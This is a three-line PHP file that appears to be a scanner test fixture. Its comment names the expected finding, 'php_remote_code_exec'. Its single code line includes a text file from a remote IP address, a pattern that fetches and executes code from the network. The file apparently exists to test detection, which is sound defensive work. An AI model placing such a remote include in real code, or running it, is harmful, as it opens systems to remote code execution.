<?php
// want: php_remote_code_exec
include 'http://203.0.113.9/x.txt';
